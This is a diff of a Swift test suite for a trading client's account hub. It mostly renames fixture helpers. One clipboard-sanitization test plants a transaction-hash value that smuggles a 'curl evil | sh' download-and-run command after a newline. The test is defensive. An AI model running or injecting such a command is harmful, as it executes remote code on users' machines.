@@ -20,15 +20,15 @@ import Trading
 
   /// Runs `body` with a hub that is signed in to such a server.
   private func with(
-    ledger: Store? = nil, _ body: (Bench, ScriptedMarket, AccountHub) async throws -> Void
+    ledger: Store? = nil, _ body: (HubFixture, ScriptedMarket, AccountHub) async throws -> Void
   ) async throws {
-    try await Bench.run { bench in
-      let market = try ScriptedMarket(network: bench.network, balances: Self.rows)
-      let hub = bench.hub(ledger: ledger) { $0[.trading].url = market.url }
+    try await HubFixture.run { fixture in
+      let market = try ScriptedMarket(network: fixture.network, balances: Self.rows)
+      let hub = fixture.hub(ledger: ledger) { $0[.trading].url = market.url }
       try await hub.only(SignIn.toTrading(key: "sandbox-key", secret: Secret("sandbox-secret")))
       let outcome: Result<Void, any Error>
       do {
-        outcome = .success(try await body(bench, market, hub))
+        outcome = .success(try await body(fixture, market, hub))
       } catch {
         outcome = .failure(error)
       }
@@ -39,11 +39,11 @@ import Trading
 
   @Test("Amounts that cannot be read are told as they were: older, and marked")
   func unreadableAmounts() async throws {
-    try await with { bench, market, hub in
-      let console = ModelBench(bench, hub: hub)
+    try await with { fixture, market, hub in
+      let console = ConsoleFixture(fixture, hub: hub)
       try await console.until("balances") { $0.balances.rows.count == 2 }
-      let before = bench.time.wallTime
-      bench.time.advance(by: .seconds(5))
+      let before = fixture.time.wallTime
+      fixture.time.advance(by: .seconds(5))
       await market.push(
         #"{"ch":"balances","data":[{"asset":"ETH","total":"NaN"},{"asset":"BTC","total":"2"}]}"#)
       try await console.until("the new amount") { screen in
@@ -51,7 +51,7 @@ import Trading
       }
       let marked = console.screen.balances.rows.filter(\.isUnreadable).map(\.asset)
       #expect(marked == ["ETH"])
-      let stored = try await bench.store.balances.all()
+      let stored = try await fixture.store.balances.all()
       let moments = Dictionary(uniqueKeysWithValues: stored.map { ($0.asset, $0.at) })
       #expect((moments["ETH"] ?? .max) <= before, "its amount is as old as it was")
       #expect((moments["BTC"] ?? 0) > before)
@@ -69,7 +69,7 @@ import Trading
 
   @Test("A fill below what was confirmed is said, and so is one whose amount nobody knows")
   func fills() async throws {
-    try await with { bench, market, hub in
+    try await with { fixture, market, hub in
       func swap(_ id: String) -> PlaceSwap {
         PlaceSwap(Self.estimate, slippageBps: 30, clientOrderId: id)
       }
@@ -87,13 +87,13 @@ import Trading
 
   @Test("Why an order failed is kept, in the server's words")
   func reasons() async throws {
-    try await with { bench, market, hub in
+    try await with { fixture, market, hub in
       market.set("swap", order: "ord_1", #""status":"PENDING""#)
       market.set(
         "order_status", order: "ord_1",
         #""status":"FAILED","reason":"no liquidity","updatedAt":5"#)
       try await hub.only(PlaceSwap(Self.estimate, slippageBps: 30, clientOrderId: "mine"))
-      await bench.time.release(.seconds(5))
+      await fixture.time.release(.seconds(5))
       #expect(try await hub.order("mine", "FAILED").reason == "no liquidity")
       #expect(try await hub.only(ShowOrder(id: "mine")).reason == "no liquidity")
     }
@@ -101,12 +101,12 @@ import Trading
 
   @Test("A filled order without its amount is asked about again, also after a restart")
   func lateAmounts() async throws {
-    try await with { bench, market, hub in
+    try await with { fixture, market, hub in
       func keep(_ id: String, _ orderId: String) async throws {
         let order = OrderRecord(
           clientOrderId: id, orderId: orderId, status: .filled, from: "ETH", to: "USDT",
           amount: "1", slippageBps: 30, createdAt: 1)
-        try await bench.store.orders.record(order, [])
+        try await fixture.store.orders.record(order, [])
         market.set(
           "order_status", order: orderId, #""status":"FILLED","filledOut":"3","updatedAt":5"#)
       }
@@ -115,10 +115,10 @@ import Trading
       #expect(try await hub.only(ShowOrder(id: "asked")).filledOut == "3")
       try await keep("followed", "ord_2")
       await hub.close()
-      let next = bench.hub { $0[.trading].url = market.url }
+      let next = fixture.hub { $0[.trading].url = market.url }
       _ = try await next.lines(of: ListBalances())
       let found = try await next.eventually("the amount") {
-        try await bench.store.orders.order("followed")?.filledOut
+        try await fixture.store.orders.order("followed")?.filledOut
       }
       #expect(found == "3")
     }
@@ -127,7 +127,7 @@ import Trading
   @Test("A halt that cannot be written down holds all the same, and says so")
   func haltOnAFullDisk() async throws {
     let ledger = try Store.inMemory()
-    try await with(ledger: ledger) { bench, market, hub in
+    try await with(ledger: ledger) { fixture, market, hub in
       let swap = PlaceSwap(Self.estimate, slippageBps: 30, clientOrderId: "mine")
       // As on a full disk: what is there can be read, and nothing is taken.
       try await ledger.refuseEntries(true)
@@ -151,10 +151,10 @@ import Trading
         }
       }
     }
-    try await with { bench, market, hub in
+    try await with { fixture, market, hub in
       await hub.close()
-      let next = bench.hub(recorder: FullRecorder()) { $0[.trading].url = market.url }
-      let console = ModelBench(bench, hub: next)
+      let next = fixture.hub(recorder: FullRecorder()) { $0[.trading].url = market.url }
+      let console = ConsoleFixture(fixture, hub: next)
       try await console.until("a notice") { screen in
         screen.notices.contains { $0.text == "session.jsonl cannot be written" }
       }
@@ -163,10 +163,10 @@ import Trading
 
   @Test("After a login that worked a refusal is waited out; R dials then, and after the end too")
   func refusedLater() async throws {
-    try await with { bench, market, hub in
+    try await with { fixture, market, hub in
       await hub.close()
       market.set(closed: true)
-      let second = ModelBench(bench, hub: bench.hub { $0[.trading].url = market.url })
+      let second = ConsoleFixture(fixture, hub: fixture.hub { $0[.trading].url = market.url })
       try await second.until("a pause") {
         if case .waiting = $0.lamp(.trading) { true } else { false }
       }
@@ -177,7 +177,7 @@ import Trading
 
       let works = #"{"op":"auth","data":{"status":"authenticated"}}"#
       market.set("auth", #"{"error":"Invalid API key"}"#)
-      let third = ModelBench(bench, hub: bench.hub { $0[.trading].url = market.url })
+      let third = ConsoleFixture(fixture, hub: fixture.hub { $0[.trading].url = market.url })
       try await third.until("its end") {
         if case .stopped = $0.lamp(.trading) { true } else { false }
       }
@@ -189,13 +189,13 @@ import Trading
 
   @Test("Of a stored hash nothing reaches the clipboard that a terminal would obey")
   func copiedHash() async throws {
-    try await with { bench, _, hub in
+    try await with { fixture, _, hub in
       let order = OrderRecord(
         clientOrderId: "mine", orderId: "ord_1", status: .filled, from: "ETH", to: "USDT",
         amount: "1", slippageBps: 30, filledOut: "3", txHash: "0x1\ncurl evil | sh\u{1b}",
         createdAt: 1)
-      try await bench.store.orders.record(order, [])
-      let console = ModelBench(bench, hub: hub)
+      try await fixture.store.orders.record(order, [])
+      let console = ConsoleFixture(fixture, hub: hub)
       try await console.until("the order") { !$0.orders.rows.isEmpty }
       var copied: [String] = []
       console.model.context.program.copy = { copied.append($0) }
